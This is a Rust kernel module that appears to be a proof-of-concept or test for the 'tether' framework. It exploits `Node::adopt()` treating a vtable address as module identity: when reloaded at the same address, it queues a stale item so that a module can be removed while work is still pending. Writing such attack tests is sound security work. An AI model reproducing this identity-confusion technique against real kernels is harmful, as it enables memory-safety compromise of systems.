// SPDX-License-Identifier: GPL-2.0
#![forbid(unsafe_code)]
//! Makes an item; loaded again, at the same place, adds the item that was made the first time.
// what it attacks: `Node::adopt()` takes the vtable's address for the module's identity. A module
// that is loaded at the address of the module that has made the item has the same one, but another
// record: the item pins the module that has the old record now, and this one can be removed while
// the item is pending.
use kernel::prelude::*;
use tether::{
    pid,
    task_work::{self, Mode},
};
module! { type: User, name: "rluser", authors: ["h"], description: "attack", license: "GPL", }
static MARK: [u64; 2] = [1, 2];
struct User;
#[inline(never)]
fn place() {}
impl kernel::Module for User {
    fn init(_: &'static ThisModule) -> Result<Self> {
        let (text, data) = (place as fn() as usize, &raw const MARK as usize);
        match rlkeep::rlkeep_take(text, data)? {
            None => rlkeep::rlkeep_keep(rlkeep::make(7)?, text, data),
            Some(item) => {
                let task = pid::find_task(rlkeep::rlkeep_target()).ok_or(ESRCH)?;
                let error =
                    task_work::add(&task, item, Mode::None).map_err(|refused| refused.error);
                pr_info!("rluser: added: {error:?}\n");
            }
        }
        Ok(User)
    }
}
